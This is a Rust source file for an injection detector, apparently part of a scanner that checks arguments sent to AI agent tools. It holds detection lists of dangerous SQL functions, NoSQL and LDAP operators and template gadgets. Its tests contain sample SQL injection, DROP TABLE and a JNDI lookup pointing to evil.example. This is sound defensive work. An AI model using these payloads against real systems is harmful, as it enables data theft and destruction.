//! CI003: statements of query and template languages where a value belongs, and statements that destroy where a
//! statement belongs.

use std::ops::Range;
use std::sync::LazyLock;

use crate::detectors::needles::Needles;
use crate::detectors::roles::Role;
use crate::finding::Severity;
use crate::inspector::{Card, Findings, Inspector, Maturity};
use crate::signals::Signal;
use crate::text::{Place, Text, What};

/// The detector.
#[derive(Debug)]
pub struct Queries;

const ID: &str = "CI003";

impl Inspector for Queries {
    fn card(&self) -> Card {
        Card {
            id: ID,
            title: "Query or template injection, destructive statement",
            catches: "SQL that breaks out of a value, operators of NoSQL and LDAP filters, template and lookup \
                      expressions, and statements that drop, truncate, or change every row.",
            misses: "A statement that is harmful only in its place; a value that is injected in two steps.",
            severity: Severity::High,
            why: "A server that builds a statement from the value reads, changes or destroys what it must not.",
            remedy: "Refuse the call; have the server bind values; give its account only the rights it needs.",
            example: "1' OR '1'='1' UNION SELECT name, password FROM users--",
            maturity: Maturity::Stable,
            references: &[
                "OWASP-ASI-2026:ASI02",
                "OWASP-MCP-2025:MCP05",
                "COSAI-MCP:T3",
                "ATLAS:AML.T0101",
                "CWE-89",
                "CWE-94",
                "CWE-90",
                "CWE-943",
                "CWE-1336",
            ],
        }
    }

    fn inspect_text(&self, text: &Text<'_>, findings: &mut Findings) {
        let words = text.layers.iter().any(|(_, layer)| layer.hits.iter().any(|hit| hit.signal == Signal::Query));
        if !text.kind.from_client() || text.plain && !words || text.original.len() > QUERY_MAX {
            return;
        }
        // Without a word of a query language, a statement or an expression needs one of these signs.
        let signs = |b: u8| {
            matches!(
                b,
                b'\'' | b'"' | b'`' | b'=' | b'(' | b';' | b'#' | b'|' | b'&' | b'{' | b'<' | b'@' | b'$' | b'*' | b'['
            )
        };
        if !words && text.layers.len() == 1 && !text.original.bytes().any(signs) && !text.original.contains("--") {
            return;
        }
        let role = Role::of(text);
        for (layer, reading) in text.layers.iter().filter(|(_, layer)| !layer.is_guess()) {
            // Text is only searched for the lookups that loggers run, and those begin with this sign.
            if role == Role::Command
                || role == Role::Content && memchr::memmem::find(reading.text().as_bytes(), b"${").is_none()
            {
                continue;
            }
            let lower = reading.text().to_ascii_lowercase();
            let found = match role {
                Role::Value => structured(&lower)
                    .or_else(|| expression(&lower))
                    .or_else(|| filter(&lower))
                    .or_else(|| destructive(&lower)),
                Role::Query => destructive(&lower),
                Role::Content => expression(&lower).filter(|found| found.1 == "lookup-expression"),
                Role::Command => None,
            };
            if let Some((range, rule, confidence, detail)) = found {
                let what = What { id: ID, rule, severity: Severity::High, confidence, detail };
                findings.push(text.finding(Place { layer, range }, what));
                return;
            }
        }
    }
}

/// Longer values are content; a statement that long is refused by limits of its own.
const QUERY_MAX: usize = 128 * 1024;

type Found = (Range<usize>, &'static str, f32, &'static str);

/// A text as the words, numbers and signs of SQL, without comments; at most this many.
const TOKENS_MAX: usize = 400;

/// What an SQL reader sees.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Token<'a> {
    Word(&'a str),
    Number,
    Quote,
    Sign(u8),
    /// `--`, `#` or `/*`, up to its end.
    Comment,
}

fn tokens(text: &str) -> Vec<Token<'_>> {
    let bytes = text.as_bytes();
    let mut tokens = Vec::new();
    let mut at = 0;
    while at < bytes.len() && tokens.len() < TOKENS_MAX {
        let rest = text.get(at..).unwrap_or_default();
        let length = match rest.as_bytes() {
            [b'/', b'*', b'!', ..] => {
                // MySQL runs what stands in such a comment.
                let digits = rest.bytes().skip(3).take_while(u8::is_ascii_digit).count();
                3 + digits
            }
            [b'/', b'*', ..] => {
                let end = rest.find("*/");
                tokens.push(Token::Comment);
                end.map_or(rest.len(), |end| end + 2)
            }
            [b'-', b'-', ..] | [b'#', ..] => {
                tokens.push(Token::Comment);
                rest.find('\n').unwrap_or(rest.len())
            }
            [first, ..] if first.is_ascii_alphabetic() || matches!(first, b'_' | b'@' | b'$') => {
                let length = rest
                    .bytes()
                    .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'@' | b'$' | b'.'))
                    .count();
                tokens.push(Token::Word(rest.get(..length).unwrap_or_default()));
                length
            }
            [first, ..] if first.is_ascii_digit() => {
                let length = rest.bytes().take_while(|b| b.is_ascii_hexdigit() || matches!(b, b'.' | b'x')).count();
                tokens.push(Token::Number);
                length
            }
            [b'\'' | b'"' | b'`', ..] => {
                tokens.push(Token::Quote);
                1
            }
            [first, ..] if first.is_ascii_whitespace() || *first == b'+' || !first.is_ascii() => {
                rest.chars().next().map_or(1, char::len_utf8)
            }
            [first, ..] => {
                tokens.push(Token::Sign(*first));
                1
            }
            [] => 1,
        };
        at += length;
    }
    tokens
}

const FUNCTIONS: &[&str] = &[
    "sleep",
    "benchmark",
    "pg_sleep",
    "waitfor",
    "xp_cmdshell",
    "load_file",
    "extractvalue",
    "updatexml",
    "utl_inaddr.get_host_address",
    "utl_http.request",
    "information_schema",
    "information_schema.tables",
    "information_schema.columns",
    "sysobjects",
    "syscolumns",
    "pg_shadow",
    "group_concat",
    "concat_ws",
    "randomblob",
    "dbms_pipe.receive_message",
    "xp_regread",
    "sp_password",
    "outfile",
    "dumpfile",
    "openrowset",
    "sysibm.sysdummy1",
    "all_tables",
    "user_tables",
    "sp_executesql",
    "master..xp_cmdshell",
    "substring",
    "serverproperty",
    "char",
    "chr",
    "ascii",
    "unhex",
    "all_users",
    "mysql.user",
    "master..sysdatabases",
    "exec",
    "declare",
    "pg_user",
    "@@version",
    "version",
    "current_setting",
    "all_source",
];

const STATEMENTS: &[&str] = &[
    "select", "insert", "update", "delete", "drop", "alter", "create", "truncate", "exec", "execute", "declare",
    "shutdown", "grant", "backup", "waitfor", "begin", "commit", "merge",
];

/// Whether a word names a function or a catalogue of a database.
fn is_database_function(word: &str) -> bool {
    const BEGINNINGS: [&str; 7] = ["xp_", "syscat.", "sysibm.", "information_schema", "@@", "dbms_", "utl_"];
    FUNCTIONS.contains(&word) || BEGINNINGS.iter().any(|beginning| word.starts_with(beginning))
}

/// SQL that breaks out of a value.
fn structured(lower: &str) -> Option<Found> {
    let tokens = tokens(lower);
    let whole = 0..lower.len();
    let words: Vec<&str> =
        tokens.iter().filter_map(|token| if let Token::Word(word) = token { Some(*word) } else { None }).collect();
    let has = |word: &str| words.contains(&word);
    let (quote, comment) = (tokens.contains(&Token::Quote), tokens.contains(&Token::Comment));
    let sign = |byte| tokens.contains(&Token::Sign(byte));
    let plain = !quote && !comment && !lower.contains([',', '*', '(', '=']) && !tokens.contains(&Token::Number);
    if has("union") && !plain && words.iter().any(|word| word.starts_with("select")) {
        return Some((whole, "union-select", 0.93, "appends a query to another"));
    }
    let any = |list: &[&str]| list.iter().any(|word| words.contains(word));
    let calls = words.iter().copied().any(is_database_function);
    let logic = any(&["or", "and", "xor", "having", "not"]) || lower.contains("||") || lower.contains("&&");
    if calls && (quote || comment || logic || sign(b';') || sign(b'(') || has("select")) {
        return Some((whole, "sql-function", 0.88, "calls functions of a database"));
    }
    if logic
        && compares(&tokens)
        && (quote
            || comment
            || tokens
                .first()
                .is_some_and(|token| !matches!(token, Token::Word(word) if !matches!(*word, "or" | "and" | "having"))))
    {
        return Some((whole, "tautology", 0.9, "adds a condition that is always true or false"));
    }
    if quote
        && logic
        && (sign(b'=') || sign(b'<') || sign(b'>') || any(&["like", "between", "in", "is", "exists"]))
        && words.len() <= 20
        && breaks_out(lower)
    {
        return Some((whole, "quote-breakout", 0.82, "breaks out of a quoted value"));
    }
    if words.iter().any(|word| STATEMENTS.contains(word))
        && (sign(b';') || quote && breaks_out(lower))
        && (sign(b';') && (quote || comment || sign(b'(') || any(&["table", "from", "into"])))
    {
        return Some((whole, "stacked-statement", 0.88, "appends a statement"));
    }
    if (has("select") && has("from"))
        || (has("insert") && has("into"))
        || (has("order") && has("by") && (comment || quote))
        || (has("group") && has("by") && (quote || comment || has("having")))
    {
        let signs = [b'(', b'*', b';'].into_iter().any(sign);
        let starts = words.first().is_some_and(|word| STATEMENTS.contains(word)) || quote || comment || signs;
        if starts {
            return Some((whole, "statement-as-value", 0.8, "a value is a statement"));
        }
    }
    if let [Token::Word("order" | "group"), Token::Word("by"), Token::Number, ..]
    | [Token::Word("or" | "and"), Token::Word("true" | "false") | Token::Number] = tokens.as_slice()
    {
        return Some((whole, "clause-as-value", 0.75, "a value is a clause of a statement"));
    }
    // `admin'--`, `x') #`
    let tail = lower.trim_end();
    let cut = breaks_out(lower)
        && (tail.ends_with("--")
            || tail.ends_with("-- -")
            || tail.ends_with('#')
            || tail.ends_with("/*")
            || tail.contains("'--")
            || tail.contains("')--")
            || tail.contains("';--"));
    (cut && quote).then_some((whole, "comment-cut", 0.85, "breaks out of a value and cuts the rest off"))
}

/// `1=1`, `'a'='a'`, `x like x`, `1<2`, `!0`: two constants compared after a logical word.
fn compares(tokens: &[Token<'_>]) -> bool {
    let constants: Vec<&Token<'_>> = tokens
        .iter()
        .filter(|token| !matches!(token, Token::Quote | Token::Comment | Token::Sign(b'(' | b')')))
        .collect();
    constants.windows(4).any(|four| {
        let [logic, left, operator, right] = four else { return false };
        let joins =
            matches!(logic, Token::Word("or" | "and" | "xor" | "having" | "where" | "not") | Token::Sign(b'|' | b'&'));
        let compared = matches!(
            operator,
            Token::Sign(b'=' | b'<' | b'>' | b'!' | b'~')
                | Token::Word("like" | "is" | "rlike" | "regexp" | "between" | "in")
        );
        joins && compared && (left == right || matches!((left, right), (Token::Number, _) | (_, Token::Number)))
    }) || constants.windows(3).any(|three| {
        matches!(
            three,
            [Token::Word("or" | "and"), Token::Sign(b'!' | b'~' | b'-'), Token::Number]
                | [Token::Sign(b'|'), Token::Sign(b'|'), Token::Number]
        )
    })
}

/// Whether a quote ends a value before its end: after nothing, a word or a number, and followed by SQL rather than a letter.
fn breaks_out(lower: &str) -> bool {
    let Some(at) = lower.find(['\'', '"', '`']) else { return false };
    let after = lower.get(at + 1..).unwrap_or_default();
    let next = after.trim_start_matches([' ', '\t', ')', '\'', '"', '`', '+', '%']).bytes().next();
    let spaced = after.starts_with([
        ' ', ')', ';', '+', '|', '&', '\'', '"', '/', '-', '#', '=', '<', '>', '*', ',', '%', '^', '!', '(',
    ]) || after.is_empty();
    spaced
        && next.is_none_or(|b| {
            b.is_ascii_alphabetic()
                || matches!(
                    b,
                    b';' | b'-'
                        | b'#'
                        | b'|'
                        | b'&'
                        | b'='
                        | b'/'
                        | b'<'
                        | b'>'
                        | b'!'
                        | b'*'
                        | b'('
                        | b','
                        | b'^'
                        | b'0'..=b'9'
                )
        })
}

/// Statements that destroy, wherever they stand.
fn destructive(lower: &str) -> Option<Found> {
    let tokens = tokens(lower);
    let words: Vec<&str> =
        tokens.iter().filter_map(|token| if let Token::Word(word) = token { Some(*word) } else { None }).collect();
    let pair = |first: &str, second: &[&str]| {
        words.windows(2).any(|two| matches!(two, [a, b] if *a == first && second.contains(b)))
    };
    let rule = if pair(
        "drop",
        &[
            "table",
            "database",
            "schema",
            "index",
            "view",
            "user",
            "role",
            "collection",
            "keyspace",
            "column",
            "function",
            "trigger",
            "procedure",
        ],
    ) {
        "drop"
    } else if pair("truncate", &["table"]) || (words.first() == Some(&"truncate") && words.len() <= 4) {
        "truncate"
    } else if pair("delete", &["from"]) && !words.contains(&"where") {
        "delete-everything"
    } else if words.first() == Some(&"update")
        && words.contains(&"set")
        && !words.contains(&"where")
        && tokens.contains(&Token::Sign(b'='))
    {
        "update-everything"
    } else if pair("grant", &["all"])
        || words.iter().any(|word| word.ends_with("xp_cmdshell"))
        || pair("copy", &["program"])
        || lower.contains("to program '")
        || lower.contains("into outfile")
    {
        "privilege"
    } else if matches!(words.as_slice(), ["flushall" | "flushdb", ..])
        || lower.contains("dropdatabase(")
        || lower.contains("deletemany({})")
    {
        "drop"
    } else {
        return None;
    };
    Some((0..lower.len(), rule, 0.75, "a statement destroys data or takes rights"))
}

/// Template expressions that compute, and lookups that load code.
fn expression(lower: &str) -> Option<Found> {
    if let Some(at) = lower
        .find("${jndi:")
        .or_else(|| lower.find("${lower:"))
        .or_else(|| lower.find("${::-"))
        .or_else(|| lower.find("${env:"))
    {
        return Some((
            at..lower.len(),
            "lookup-expression",
            0.95,
            "a lookup expression loads something from elsewhere",
        ));
    }
    for (open, close) in
        [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%", "%>"), ("{%", "%}"), ("*{", "}"), ("@(", ")"), ("[[${", "}]]")]
    {
        let Some(at) = lower.find(open) else { continue };
        let inside = lower.get(at + open.len()..).unwrap_or_default();
        let Some(end) = inside.find(close) else { continue };
        let inside = inside.get(..end).unwrap_or_default().trim_start_matches('=').trim();
        let computes =
            inside.bytes().any(|b| b == b'*') && inside.bytes().any(|b| b.is_ascii_digit()) && inside.len() < 24;
        let reaches = [
            "__",
            "config",
            "self.",
            "request.",
            ".class",
            "getruntime",
            "t(java",
            "process.",
            "constructor",
            "import",
            "system(",
            "exec",
            "eval",
            "range(",
            "lipsum",
            "cycler",
            "joiner",
            "file.",
            "open(",
            "|attr",
            "popen",
            "'.join",
            "env[",
        ]
        .iter()
        .any(|word| inside.contains(word));
        if computes || reaches {
            return Some((
                at..at + open.len() + end + close.len(),
                "template-expression",
                0.85,
                "a template expression computes something",
            ));
        }
    }
    None
}

/// Operators of NoSQL and LDAP filters.
fn filter(lower: &str) -> Option<Found> {
    const OPERATORS: &[&str] = &[
        "$where",
        "$ne\"",
        "$gt\"",
        "$gte\"",
        "$lt\"",
        "$nin\"",
        "$regex\"",
        "$or\"",
        "[$ne]",
        "[$gt]",
        "[$regex]",
        "[$nin]",
        "'$ne'",
        "'$gt'",
        "'$where'",
        "$expr\"",
        "$function\"",
        "$ne:",
        "$gt:",
        "$ne :",
        "$regex:",
        "$comment:",
        "&& this.",
        "|| this.",
    ];
    static NEEDLES: LazyLock<Needles> = LazyLock::new(|| Needles::new(OPERATORS));
    if let Some(found) = NEEDLES.find(lower) {
        return Some((found.start..lower.len(), "nosql-operator", 0.85, "an operator of a query stands in a value"));
    }
    if matches!(lower, "$ne" | "$gt" | "$gte" | "$lt" | "$lte" | "$nin" | "$regex" | "$where" | "$expr" | "$function") {
        return Some((0..lower.len(), "nosql-operator", 0.7, "an operator of a query is used as a key"));
    }
    const LDAP: &[&str] = &["*)(", ")(&", ")(|", "*))%00", ")(cn=", ")(uid=", "(|(", "(&("];
    let at = LDAP.iter().find_map(|form| lower.find(form))?;
    (lower.contains('=') || lower.contains("*)(")).then_some((
        at..lower.len(),
        "ldap-filter",
        0.85,
        "a value changes a directory filter",
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::Registry;
    use crate::text::TextKind;

    fn rule(text: &str, tool: &str, parameter: &str) -> Option<String> {
        let found =
            Registry::new(vec![Box::new(Queries)]).inspect_text(text, TextKind::Arguments, Some(tool), Some(parameter));
        found.as_slice().first().map(|finding| finding.rule.to_string())
    }

    #[test]
    fn injections() {
        for text in [
            Queries.card().example,
            "' or 1=1--",
            "admin'--",
            "1; DROP TABLE users",
            "-1 union/**/select 1,2,3",
            "1 and sleep(5)",
            "\" or \"\"=\"",
            "1%27%20OR%20%271%27=%271",
            "{\"$ne\": null}",
            "*)(uid=*))(|(uid=*",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "{{''.__class__.__mro__}}",
        ] {
            assert!(rule(text, "find_user", "id").is_some(), "{text}");
        }
        for text in ["DROP TABLE users", "delete from orders", "UPDATE users SET admin = 1", "TRUNCATE TABLE logs"] {
            assert!(rule(text, "execute_sql", "sql").is_some(), "{text}");
        }
    }

    #[test]
    fn ordinary_values() {
        for text in [
            "O'Brien",
            "rock 'n' roll",
            "5\" pipe and 3\" hose",
            "The Union Select Committee",
            "black and white",
            "for better or worse",
            "12 or 13",
            "{{name}}",
            "a -- b",
            "C# or F#",
            "user@example.com",
        ] {
            assert_eq!(rule(text, "find_user", "name"), None, "{text}");
        }
        for text in
            ["SELECT * FROM users WHERE id = 1", "DELETE FROM orders WHERE id = 7", "UPDATE t SET a = 1 WHERE b = 2"]
        {
            assert_eq!(rule(text, "execute_sql", "sql"), None, "{text}");
        }
    }
}
